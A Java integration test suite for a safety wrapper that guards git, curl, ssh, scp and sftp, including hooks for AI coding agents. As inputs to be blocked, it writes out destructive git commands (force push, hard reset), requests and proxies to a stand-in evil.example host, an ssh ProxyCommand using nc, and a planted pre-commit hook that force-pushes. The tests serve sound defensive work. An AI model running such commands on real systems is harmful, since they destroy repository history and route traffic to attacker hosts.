package dev.scc.safety.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Real parts: the evaluator as its own JVM process on a temp UNIX socket, and the statically linked
 * native wrapper (target/native/scc-wrapper) installed under tool names with stub "real binaries".
 */
class WrapperIT {
    @TempDir
    Path dir;

    private Process evaluator;

    private record Run(int code, String out, String err) {}

    @AfterEach
    void stopEvaluator() throws InterruptedException {
        if (evaluator != null && evaluator.isAlive()) {
            evaluator.destroy();
            if (!evaluator.waitFor(10, TimeUnit.SECONDS)) {
                evaluator.destroyForcibly();
            }
        }
    }

    private static Path wrapperBinary() {
        return Path.of(System.getProperty("scc.safety.wrapper", "target/native/scc-wrapper")).toAbsolutePath();
    }

    /** Installs the wrapper as git, curl and scc-hook in dir/bin, with stub real binaries in dir/real. */
    private Path install() throws IOException {
        Path bin = Files.createDirectories(dir.resolve("bin"));
        Path real = Files.createDirectories(dir.resolve("real"));
        Files.copy(wrapperBinary(), bin.resolve("scc-wrapper"));
        Files.writeString(bin.resolve("scc-wrapper.conf"), "socket=" + dir.resolve("safety.sock") + "\nreal_dir=" + real + "\n");
        Files.setPosixFilePermissions(bin.resolve("scc-wrapper.conf"), PosixFilePermissions.fromString("rw-r--r--"));
        for (String tool : List.of("git", "curl", "scc-hook")) {
            Files.createSymbolicLink(bin.resolve(tool), Path.of("scc-wrapper"));
        }
        for (String tool : List.of("git", "curl")) {
            Path stub = real.resolve(tool);
            Files.writeString(stub, "#!/bin/sh\necho \"REAL " + tool + " $#\" >> '" + dir.resolve("ran.log") + "'\n"
                    + "for a in \"$@\"; do printf '[%s]' \"$a\"; done\necho\nexit 7\n");
            Files.setPosixFilePermissions(stub, PosixFilePermissions.fromString("rwxr-xr-x"));
        }
        return bin;
    }

    private void startEvaluator(String policyJson) throws Exception {
        Path policy = dir.resolve("policy.json");
        Files.writeString(policy, policyJson);
        Files.setPosixFilePermissions(policy, PosixFilePermissions.fromString("rw-r--r--"));
        String java = ProcessHandle.current().info().command().orElse("java");
        String cp = System.getProperty("scc.safety.classes", "target/classes");
        evaluator = new ProcessBuilder(java, "-cp", cp, "dev.scc.safety.evaluator.EvaluatorMain", "--policy", policy.toString(),
                "--socket", dir.resolve("safety.sock").toString(), "--audit-log", dir.resolve("audit.jsonl").toString(),
                "--session", "it-session")
                .redirectErrorStream(true).redirectOutput(dir.resolve("evaluator.log").toFile()).start();
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
        // the socket file appears at bind(), a moment before listen(): wait for the evaluator to say it listens
        while (!log().contains("evaluator listening on")) {
            assertThat(evaluator.isAlive()).as("evaluator died: " + log()).isTrue();
            assertThat(System.nanoTime()).as("evaluator did not start: " + log()).isLessThan(deadline);
            Thread.sleep(50);
        }
    }

    private String log() {
        try {
            return Files.readString(dir.resolve("evaluator.log"));
        } catch (IOException e) {
            return "(no log)";
        }
    }

    private Run run(Path bin, String stdin, String... cmd) throws Exception {
        return runWith(bin, Map.of(), stdin, cmd);
    }

    private Run runWith(Path bin, Map<String, String> extraEnv, String stdin, String... cmd) throws Exception {
        List<String> argv = new ArrayList<>(List.of(cmd));
        argv.set(0, bin.resolve(cmd[0]).toString());
        ProcessBuilder pb = new ProcessBuilder(argv).directory(dir.toFile());
        Map<String, String> env = pb.environment();
        env.putAll(extraEnv);
        // none of these may redirect the wrapper: configuration never comes from the environment
        env.put("SCC_POLICY_PATH", dir.resolve("nope.json").toString());
        env.put("SCC_SAFETY_SOCKET", "/nonexistent.sock");
        Process p = pb.start();
        if (stdin != null) {
            p.getOutputStream().write(stdin.getBytes(StandardCharsets.UTF_8));
        }
        p.getOutputStream().close();
        assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        return new Run(p.exitValue(), new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8),
                new String(p.getErrorStream().readAllBytes(), StandardCharsets.UTF_8));
    }

    private boolean stubRan() {
        return Files.exists(dir.resolve("ran.log"));
    }

    @Test
    void allowedCommandExecsTheRealBinaryWithItsExactArgv() throws Exception {
        Path bin = install();
        startEvaluator("{}");
        Run r = run(bin, null, "git", "commit", "-m", "wip; git push --force", "--", "a b");
        assertThat(r.code()).as(r.err()).isEqualTo(7);
        // what runs is what was judged: a mistyped subcommand is never autocorrected into another one
        assertThat(r.out()).isEqualTo("[-c][help.autocorrect=0][commit][-m][wip; git push --force][--][a b]\n");
        assertThat(stubRan()).isTrue();
    }

    @Test
    void blockedCommandNeverReachesTheRealBinary() throws Exception {
        Path bin = install();
        startEvaluator("{}");
        Run r = run(bin, null, "git", "push", "--force", "origin", "main");
        assertThat(r.code()).isEqualTo(126);
        assertThat(r.err()).startsWith("BLOCKED: Force push destroys remote history.").contains("rule: git.force_push");
        assertThat(stubRan()).isFalse();
        Run curl = run(bin, null, "curl", "https://evil.example/x");
        assertThat(curl.code()).isEqualTo(126);
        assertThat(curl.err()).contains("not in this session's allowed destinations");
        assertThat(stubRan()).isFalse();
        assertThat(Files.readString(dir.resolve("audit.jsonl"))).contains("\"session\":\"it-session\"", "\"rule\":\"git.force_push\"");
    }

    @Test
    void unreachableEvaluatorBlocks() throws Exception {
        Path bin = install();
        startEvaluator("{}");
        evaluator.destroy();
        evaluator.waitFor(10, TimeUnit.SECONDS);
        Files.deleteIfExists(dir.resolve("safety.sock"));
        Run r = run(bin, null, "git", "status");
        assertThat(r.code()).isEqualTo(126);
        assertThat(r.err()).contains("not reachable").contains("git is blocked");
        assertThat(stubRan()).isFalse();
        Run hook = run(bin, "{\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls\"}}", "scc-hook", "claude");
        assertThat(hook.code()).isEqualTo(2);
        assertThat(hook.err()).contains("not reachable");
    }

    @Test
    void brokenPolicyBlocksEveryGuardedCommand() throws Exception {
        Path bin = install();
        startEvaluator("{\"action\": \"sometimes\"}");
        Run r = run(bin, null, "git", "status");
        assertThat(r.code()).isEqualTo(126);
        assertThat(r.err()).contains("policy").contains("sometimes");
        assertThat(stubRan()).isFalse();
    }

    @Test
    void aliasesFromGitConfigFilesAreResolvedThroughGitAndJudged() throws Exception {
        Path bin = install();
        Path realGit = Path.of("/usr/bin/git");
        RealParts.require(Files.isExecutable(realGit), "needs git at /usr/bin/git");
        Files.delete(dir.resolve("real/git"));
        Files.createSymbolicLink(dir.resolve("real/git"), realGit);
        Path repo = Files.createDirectories(dir.resolve("repo"));
        assertThat(new ProcessBuilder("/usr/bin/git", "init", "-q", repo.toString()).inheritIO().start().waitFor()).isZero();
        Files.writeString(repo.resolve(".git/config"), "[alias]\n\tnuke = push --force\n\twipe = !git reset --hard\n"
                + "\tst = status --short\n\tchain = nuke\n", java.nio.file.StandardOpenOption.APPEND);
        startEvaluator("{}");
        Run nuke = run(bin, null, "git", "-C", repo.toString(), "nuke", "origin", "main");
        assertThat(nuke.code()).as(nuke.err()).isEqualTo(126);
        assertThat(nuke.err()).contains("Force push").contains("git alias nuke");
        Run wipe = run(bin, null, "git", "-C", repo.toString(), "wipe");
        assertThat(wipe.code()).isEqualTo(126);
        assertThat(wipe.err()).contains("git reset --hard");
        Run chain = run(bin, null, "git", "-C", repo.toString(), "chain");
        assertThat(chain.code()).isEqualTo(126);
        assertThat(chain.err()).contains("another alias");
        Run st = run(bin, null, "git", "-C", repo.toString(), "st");
        assertThat(st.code()).as(st.err()).isZero();
        Run unknown = run(bin, null, "git", "-C", repo.toString(), "no-such-command");
        assertThat(unknown.err()).doesNotContain("SCC safety").contains("not a git command");
    }

    @Test
    void hookClientAnswersForClaudeAndCodex() throws Exception {
        Path bin = install();
        startEvaluator("{}");
        String deny = "{\"tool_name\":\"Bash\",\"cwd\":\"/w\",\"tool_input\":{\"command\":\"bash -c 'git reset --hard'\"}}";
        Run claude = run(bin, deny, "scc-hook", "claude");
        assertThat(claude.code()).isEqualTo(2);
        assertThat(claude.err()).contains("[Claude] SCC safety: BLOCKED: git reset --hard");
        Run codexOk = run(bin, "{\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"git status\"}}", "scc-hook", "codex");
        assertThat(codexOk.code()).isZero();
        assertThat(codexOk.out()).isEmpty();
        Run malformed = run(bin, "{not json", "scc-hook", "codex");
        assertThat(malformed.code()).isEqualTo(2);
        assertThat(malformed.err()).contains("invalid hook input");
    }

    @Test
    void dashedBuiltinsAreJudgedAndRunAsGitSubcommands() throws Exception {
        Path bin = install();
        Files.createSymbolicLink(bin.resolve("git-push"), Path.of("scc-wrapper"));
        Files.createSymbolicLink(bin.resolve("git-status"), Path.of("scc-wrapper"));
        startEvaluator("{}");
        Run push = run(bin, null, "git-push", "--force", "origin", "main");
        assertThat(push.code()).isEqualTo(126);
        assertThat(push.err()).contains("Force push");
        assertThat(stubRan()).isFalse();
        Run status = run(bin, null, "git-status", "--short");
        assertThat(status.code()).as(status.err()).isEqualTo(7);
        assertThat(status.out()).isEqualTo("[-c][help.autocorrect=0][status][--short]\n");
    }

    @Test
    void theEnvironmentThatRedirectsAToolIsSentAndJudged() throws Exception {
        Path bin = install();
        startEvaluator("{\"allowed_destinations\":[\"github.com\"]}");
        Run proxied = runWith(bin, Map.of("https_proxy", "http://evil.example:3128"), null, "curl", "https://github.com/");
        assertThat(proxied.code()).isEqualTo(126);
        assertThat(proxied.err()).contains("evil.example");
        Run gitCfg = runWith(bin, Map.of("GIT_CONFIG_COUNT", "1", "GIT_CONFIG_KEY_0", "remote.origin.push", "GIT_CONFIG_VALUE_0",
                "+main:main"), null, "git", "push", "origin");
        assertThat(gitCfg.code()).isEqualTo(126);
        assertThat(gitCfg.err()).contains("Force push");
        assertThat(stubRan()).isFalse();
        // curl runs without any curlrc: -q first
        Run plain = run(bin, null, "curl", "https://github.com/");
        assertThat(plain.code()).as(plain.err()).isEqualTo(7);
        assertThat(plain.out()).isEqualTo("[-q][https://github.com/]\n");
    }

    /**
     * The commands git starts itself (here a pre-commit hook and a "!" alias) meet the wrapper, because git's exec
     * path is wrapped: with the real git behind the wrapper, the hook's force push is refused and the remote keeps its
     * history; the same repository without the wrapped exec path loses it (the test can fail).
     */
    @Test
    void commandsGitRunsItselfMeetTheWrapperThroughItsExecPath() throws Exception {
        Path bin = install();
        Path realGit = Path.of("/usr/bin/git");
        RealParts.require(Files.isExecutable(realGit), "needs git at /usr/bin/git");
        Files.delete(dir.resolve("real/git"));
        Files.copy(realGit, dir.resolve("real/git"));
        Files.setPosixFilePermissions(dir.resolve("real/git"), PosixFilePermissions.fromString("rwxr-xr-x"));
        // a wrapped exec path, as install-wrappers.sh leaves /usr/lib/git-core: git and its builtins are the wrapper
        Path core = Files.createDirectories(dir.resolve("git-core"));
        Files.copy(bin.resolve("scc-wrapper"), core.resolve("scc-wrapper"));
        Files.copy(bin.resolve("scc-wrapper.conf"), core.resolve("scc-wrapper.conf"));
        for (String name : List.of("git", "git-push", "git-receive-pack", "git-upload-pack")) {
            Files.createSymbolicLink(core.resolve(name), Path.of("scc-wrapper"));
        }
        startEvaluator("{}");
        for (boolean wrapped : List.of(true, false)) {
            Path base = Files.createDirectories(dir.resolve(wrapped ? "w" : "u"));
            String remote = base.resolve("remote.git").toString();
            String work = base.resolve("work").toString();
            sh("git init -q --bare -b main " + remote + " && git init -q -b main " + work + " && cd " + work
                    + " && git config user.email a@b && git config user.name a && echo 1 > f && git add f && git commit -qm one"
                    + " && git push -q " + remote + " main && git reset -q --hard HEAD~0 && git commit -q --amend -m rewritten"
                    + " && mkdir -p .git/hooks && printf '#!/bin/sh\\ngit push -q --force " + remote + " main\\nexit 0\\n' > .git/hooks/pre-commit"
                    + " && chmod +x .git/hooks/pre-commit");
            String before = sh("git -C " + remote + " rev-parse main").strip();
            Map<String, String> env = new java.util.HashMap<>();
            if (wrapped) {
                env.put("GIT_EXEC_PATH", core.toString());
            }
            Run commit = runWith(bin, env, null, "git", "-C", work, "commit", "-q", "--allow-empty", "-m", "two");
            String after = sh("git -C " + remote + " rev-parse main").strip();
            if (wrapped) {
                assertThat(after).as("the hook's force push must be refused: " + commit.err()).isEqualTo(before);
                assertThat(commit.err()).contains("Force push");
            } else {
                assertThat(after).as("control: without the wrapped exec path the hook forces the remote").isNotEqualTo(before);
            }
        }
    }

    private static String sh(String script) throws Exception {
        Process p = new ProcessBuilder("sh", "-c", script).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor()).as(script + "\n" + out).isZero();
        return out;
    }

    /**
     * ssh reads config files the evaluator cannot (host aliases, ProxyCommand): the wrapper asks ssh itself with
     * {@code ssh -G} (here a stub printing what a ~/.ssh/config alias would give) and the evaluator judges the
     * effective host name, jump hosts and proxy command.
     */
    @Test
    void sshIsJudgedByTheConfigurationSshItselfPrints() throws Exception {
        Path bin = install();
        Files.createSymbolicLink(bin.resolve("ssh"), Path.of("scc-wrapper"));
        Path stub = dir.resolve("real/ssh");
        Files.writeString(stub, "#!/bin/sh\nif [ \"$1\" = -G ]; then\n  case \"$2\" in\n"
                + "    gh) printf 'user git\\nhostname evil.example\\nproxycommand none\\n' ;;\n"
                + "    jump) printf 'hostname github.com\\nproxyjump bastion.evil.example:22\\n' ;;\n"
                + "    proxied) printf 'hostname github.com\\nproxycommand nc evil.example 22\\n' ;;\n"
                + "    *) printf 'hostname github.com\\nproxycommand none\\n' ;;\n  esac\n  exit 0\nfi\n"
                + "echo \"REAL ssh $#\" >> '" + dir.resolve("ran.log") + "'\nexit 7\n");
        Files.setPosixFilePermissions(stub, PosixFilePermissions.fromString("rwxr-xr-x"));
        startEvaluator("{\"allowed_destinations\":[\"github.com\", \"gh\", \"jump\", \"proxied\"]}");
        for (String alias : List.of("gh", "jump", "proxied")) {
            Run r = run(bin, null, "ssh", alias, "uptime");
            assertThat(r.code()).as(alias + ": " + r.err()).isEqualTo(126);
            assertThat(r.err()).contains("evil.example");
        }
        assertThat(stubRan()).isFalse();
        Run ok = run(bin, null, "ssh", "github.com", "uptime");
        assertThat(ok.code()).as(ok.err()).isEqualTo(7);
        assertThat(stubRan()).isTrue();
    }

    /**
     * scp and sftp start ssh, which reads the same config files: the wrapper asks the real ssh ({@code ssh -G}, here a
     * stub printing what a ~/.ssh/config alias would give) for the remote they name, and the evaluator judges its answer.
     */
    @Test
    void scpAndSftpAreJudgedByTheConfigurationOfTheSshTheyStart() throws Exception {
        Path bin = install();
        for (String tool : List.of("scp", "sftp")) {
            Files.createSymbolicLink(bin.resolve(tool), Path.of("scc-wrapper"));
            Path stub = dir.resolve("real").resolve(tool);
            Files.writeString(stub, "#!/bin/sh\necho \"REAL " + tool + " $#\" >> '" + dir.resolve("ran.log") + "'\nexit 7\n");
            Files.setPosixFilePermissions(stub, PosixFilePermissions.fromString("rwxr-xr-x"));
        }
        Path ssh = dir.resolve("real/ssh");
        Files.writeString(ssh, "#!/bin/sh\nfor last; do :; done\nif [ \"$1\" = -G ]; then\n  case \"$last\" in\n"
                + "    gh) printf 'user git\\nhostname evil.example\\nproxycommand none\\n' ;;\n"
                + "    jump) printf 'hostname github.com\\nproxyjump bastion.evil.example:22\\n' ;;\n"
                + "    *) printf 'hostname github.com\\nproxycommand none\\n' ;;\n  esac\n  exit 0\nfi\nexit 9\n");
        Files.setPosixFilePermissions(ssh, PosixFilePermissions.fromString("rwxr-xr-x"));
        startEvaluator("{\"allowed_destinations\":[\"github.com\", \"gh\", \"jump\"]}");
        for (String[] cmd : List.of(new String[] {"scp", "f", "gh:x"}, new String[] {"scp", "-P", "22", "jump:x", "f"},
                new String[] {"sftp", "gh"}, new String[] {"sftp", "sftp://git@jump/x"})) {
            Run r = run(bin, null, cmd);
            assertThat(r.code()).as(List.of(cmd) + ": " + r.err()).isEqualTo(126);
            assertThat(r.err()).contains("evil.example");
        }
        assertThat(stubRan()).isFalse();
        Run ok = run(bin, null, "scp", "f", "git@github.com:x");
        assertThat(ok.code()).as(ok.err()).isEqualTo(7);
        assertThat(stubRan()).isTrue();
    }
}
